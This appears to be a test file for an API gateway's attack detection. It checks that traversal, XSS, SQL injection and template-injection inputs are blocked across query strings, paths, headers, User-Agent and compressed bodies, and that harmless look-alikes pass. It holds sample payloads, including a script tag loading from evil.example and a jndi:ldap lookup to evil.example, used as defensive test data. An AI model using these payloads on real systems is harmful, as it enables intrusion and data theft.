import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import type { Call } from '../../../src/testing/index.ts';
import { type ProfileKit, startProfile } from '../profile-kit.ts';

const SECURE = '/api/v1/data/secure';
/** The four kinds that the old system looked for, as attacks have them. */
const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  traversal: ['../../etc/passwd', '..\\..\\windows\\win.ini', '....//....//etc/passwd', '/var/www/../../etc/shadow'],
  XSS: ['<script>alert(1)</script>', '"><ScRiPt src=//evil.example/a.js></sCrIpT>', '<SCRIPT >x</SCRIPT >'],
  'SQL injection': ["1' union select password from users--", '1 UNION ALL SELECT null,null', '-1 UnIoN/**/SeLeCt 1,2'],
  'template injection': ['$'.concat('{7*7}'), '$'.concat('{jndi:ldap://evil.example/a}'), '$'.concat('{{7*7}}')],
};

let kit: ProfileKit;
let token: string;
const reached: string[] = [];
const twin = createServer((request, response) => {
  reached.push(request.url ?? '');
  request.resume().on('end', () => response.end('{}'));
});
before(async () => {
  twin.listen(0, '127.0.0.1');
  await once(twin, 'listening');
  const url = `http://127.0.0.1:${Object(twin.address()).port}`;
  const route = { to: 'twin', profile: 'ems', access: 'signed-in', detection: 'block' } as const;
  const gateway = { backEnds: { twin: { url } }, routes: [{ ...route, path: '/twin/*' }] };
  const exceptions = [{ route: '/twin/*', field: 'query.filter', rule: 'sqli-*', because: 'a language of our own' }];
  const inspection = { mode: 'block', exceptions } as const;
  // Here each request is judged for itself: what attacks add up to is shown in patterns.test.ts.
  const detection = { inspection, suspicion: { enabled: false } };
  kit = await startProfile('ems', { limitsEnabled: false, blockOnPattern: false }, { config: { gateway, detection } });
  token = await kit.login();
});
after(async () => {
  await kit.close();
  twin.close().closeAllConnections();
});

/** The whole text, also what needs no escape. */
const percent = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
const percentU = (text: string): string =>
  [...text].map((char) => `%u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const fullWidth = (text: string): string =>
  text.replaceAll(/[!-~]/g, (char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0));

const FORMS: Readonly<Record<string, (text: string) => string>> = {
  'as it is': encodeURIComponent,
  'in capitals': (text) => encodeURIComponent(text.toUpperCase()),
  'all of it encoded': percent,
  'encoded twice': (text) => percent(percent(text)),
  'encoded three times': (text) => percent(percent(percent(text))),
  'as %u': percentU,
  'in full width': (text) => encodeURIComponent(fullWidth(text)),
};

const REFUSED = 'The request looks like an attack and was refused.';

async function assertRefused(path: string, call: Call, what: string, method = 'GET'): Promise<void> {
  const { status, json } = await kit.call(method, path, { token, ...call });
  assert.deepEqual([status, json?.detail], [403, REFUSED], `${what}: ${path}`);
}

async function assertPasses(path: string, call: Call, what: string): Promise<void> {
  const { status, text } = await kit.call('GET', path, { token, ...call });
  assert.equal(status, 200, `${what}: ${text}`);
}

for (const [kind, texts] of Object.entries(ATTACKS)) {
  test(`E14 D05: ${kind} in the query is refused, in any case and however it is encoded`, async () => {
    for (const text of texts)
      for (const [form, encode] of Object.entries(FORMS)) {
        await assertRefused(`${SECURE}?q=${encode(text)}`, {}, `${form} ${text}`);
        await assertRefused(`/twin/x?a=1&q=fine&q=${encode(text)}`, {}, `${form} ${text}, the second of its name`);
      }
    assert.deepEqual(reached, []);
  });

  test(`E14 D05: ${kind} in the path is refused, and so is it in the name of a parameter`, async () => {
    for (const text of texts) {
      await assertRefused(`/api/v1/data/${encodeURIComponent(text)}`, {}, text);
      await assertRefused(`/api/v1/data/${percent(percent(text))}`, {}, `twice ${text}`);
      await assertRefused(`${SECURE}?${encodeURIComponent(text)}=1`, {}, text);
    }
  });

  test(`E14 D05: ${kind} in a header is refused, whether its name is known or not`, async () => {
    for (const text of texts) {
      const headers = [
        { 'x-note': text },
        { 'x-forwarded-host': text },
        { referer: `https://twin.example/?q=${encodeURIComponent(text)}` },
        { cookie: `sid=${encodeURIComponent(text)}` },
        { 'x-note': percent(text) },
        { 'accept-language': text.toUpperCase() },
      ];
      for (const one of headers) await assertRefused(SECURE, { headers: one }, JSON.stringify(one));
    }
  });
}

/** What the old patterns named and other systems let through: one step upwards, and a placeholder of any name. */
const SMALL = ['../secret.txt', 'a/../b', '..\\secret.txt', '..', '${x}', '${user.name}', '${}', 'hello ${name} there'];

// Attack: one step out of the folder of exports, and a name that a log's template resolves.
test('E14: a single step upwards and any placeholder are refused, wherever they stand and however they are encoded', async () => {
  for (const text of SMALL) {
    for (const [form, encode] of Object.entries(FORMS)) {
      await assertRefused(`${SECURE}?file=${encode(text)}`, {}, `${form} ${text}`);
      await assertRefused(`/twin/x?a=1&q=fine&q=${encode(text)}`, {}, `${form} ${text}, handed on`);
    }
    await assertRefused(`${SECURE}?${encodeURIComponent(text)}=1`, {}, `a name ${text}`);
    for (const name of ['x-note', 'user-agent', 'accept-language']) {
      await assertRefused(SECURE, { headers: { [name]: text } }, `${name} ${text}`);
      await assertRefused(SECURE, { headers: { [name]: percent(text) } }, `${name} ${text}, encoded`);
    }
    await assertRefused(SECURE, { headers: { cookie: `sid=${encodeURIComponent(text)}` } }, `a cookie ${text}`);
  }
  for (const path of ['..%2fsecret.txt', 'x%2f..%2fy', '%24%7Bx%7D', '%2524%257Bx%257D'])
    await assertRefused(`/api/v1/data/${path}`, {}, `the path ${path}`);
  assert.deepEqual(reached, []);
});

test('E14 D05: that counts where ems speaks, and nowhere if the operator says so', async () => {
  const paths = SMALL.map((text) => `/.well-known/jwks.json?q=${encodeURIComponent(text)}`);
  for (const path of paths) assert.equal((await kit.call('GET', path)).status, 200, path);
  const config = { detection: { inspection: { mode: 'block' as const, oldPatterns: [] } } };
  const mild = await startProfile('ems', { limitsEnabled: false, blockOnPattern: false }, { config });
  try {
    const answer = await mild.call('GET', `${SECURE}?q=${encodeURIComponent('${x}')}`, { token: await mild.login() });
    assert.equal(answer.status, 200, answer.text);
  } finally {
    await mild.close();
  }
});

// Attack: those that the old patterns missed, by encoding or by kind.
test('D05 each attack that the old patterns missed is found', async () => {
  const missed = [
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '%252e%252e%252f%252e%252e%252fetc%252fpasswd',
    '%252e%252e/%252e%252e/etc/passwd',
    '%24%7B7*7%7D',
    '%3Cimg%20onerror=alert(1)%3E',
    '%3Cimg%20src=x%20onerror=alert(1)%3E',
    '%27%20OR%201=1',
    "1'%20OR%201=1--",
  ];
  for (const text of missed) await assertRefused(`${SECURE}?q=${text}`, {}, text);
});

test('D05 what is harmless goes through, in the query, in headers and in a link', async () => {
  const open = '$'.concat('{');
  const harmless = [
    '2024-01-01..2024-02-01',
    'Credit Union selection',
    'the trade union will select a new chair',
    `a ${open}b`,
    `cost ${open} 5`,
    'a < b and c > d',
    '<scripture> reading',
    'v1..v2',
    'a..b',
    'and so on ..',
    'Wait.. what?',
    'costs $5 {net}',
    '..hidden',
    'to be continued...',
    "O'Reilly & sons",
    'drop me a line or two',
    'x = 1 or so',
  ];
  for (const text of harmless) {
    await assertPasses(`${SECURE}?range=${encodeURIComponent(text)}`, {}, text);
    await assertPasses(SECURE, { headers: { 'x-note': text } }, text);
    await assertPasses(SECURE, { headers: { referer: `https://a.example/?q=${encodeURIComponent(text)}` } }, text);
  }
  await assertPasses(`${SECURE}?range=2024-01-01..2024-02-01`, {}, 'unencoded');
});

// Attack: the old system never looked at bodies.
test('D05 bodies are looked at: JSON however deep, forms, parts, text, and what is compressed', async () => {
  reached.length = 0;
  const attack = "1' union select password from users--";
  const json = JSON.stringify({ a: [1, { deep: [[{ note: attack }]] }] });
  const form = `a=1&q=${encodeURIComponent(attack)}`;
  const parts = `--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n${attack}\r\n--b--\r\n`;
  const type = { json: 'application/json', form: 'application/x-www-form-urlencoded' };
  const bodies: readonly (readonly [string | Buffer, Readonly<Record<string, string>>])[] = [
    [json, { 'content-type': type.json }],
    [json.replace('union', '\\u0075nion'), { 'content-type': type.json }],
    [form, { 'content-type': type.form }],
    [parts, { 'content-type': 'multipart/form-data; boundary=b' }],
    [attack, { 'content-type': 'text/plain' }],
    [gzipSync(json), { 'content-type': type.json, 'content-encoding': 'gzip' }],
    [brotliCompressSync(json), { 'content-type': type.json, 'content-encoding': 'br' }],
    [gzipSync(gzipSync(form)), { 'content-type': type.form, 'content-encoding': 'gzip, gzip' }],
  ];
  for (const [body, headers] of bodies)
    await assertRefused('/twin/notes', { body, headers }, JSON.stringify(headers), 'POST');
  assert.deepEqual(reached, []);
  const fine = await kit.call('POST', '/twin/notes', { token, body: { range: '2024-01-01..2024-02-01' } });
  assert.equal(fine.status, 200);
  assert.deepEqual(reached, ['/twin/notes']);
});

test('D05 an operator may let a rule by, for one field of one route, and nothing else with it', async () => {
  const filter = encodeURIComponent("1' union select password from users--");
  await assertPasses(`/twin/x?filter=${filter}`, {}, 'the exception');
  await assertRefused(`/twin/x?q=${filter}`, {}, 'another field');
  await assertRefused(`${SECURE}?filter=${filter}`, {}, 'another route');
  await assertRefused(`/twin/x?filter=${encodeURIComponent('<script>alert(1)</script>')}`, {}, 'another rule');
});

// Attack: what a scanner says of itself, which logs and pages show.
test('E14: scripts, queries, steps upwards and look-ups in User-Agent are refused, and honest ones are not', async () => {
  const hostile = [
    '<script>alert(1)</script>',
    '1 UNION ALL SELECT null,null',
    '../../../../etc/passwd',
    '$'.concat('{jndi:ldap://evil.example/a}'),
  ];
  for (const text of hostile.flatMap((one) => [one, one.toUpperCase(), percent(one), `Mozilla/5.0 ${one}`]))
    await assertRefused(SECURE, { headers: { 'user-agent': text } }, text);
  const honest = [
    'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
    'python-requests/2.32.3',
    'MeterAgent/1.2 (+https://ems.example/agent; select=all)',
  ];
  for (const text of honest) await assertPasses(SECURE, { headers: { 'user-agent': text } }, text);
});

test('D05 signs are added up to a score, and the operator says which score is an attack', async () => {
  const [weak, strong] = ["it's 1=1 or so", "' OR 1=1"].map((text) => `${SECURE}?q=${encodeURIComponent(text)}`);
  await assertPasses(weak ?? '', {}, 'one weak sign');
  await assertRefused(strong ?? '', {}, 'the same in the form of a condition');
  const config = { detection: { inspection: { mode: 'block' as const, threshold: 50 } } };
  const patient = await startProfile('ems', { limitsEnabled: false, blockOnPattern: false }, { config });
  try {
    const answer = await patient.call('GET', strong ?? '', { token: await patient.login() });
    assert.equal(answer.status, 200, 'less than 50');
  } finally {
    await patient.close();
  }
});
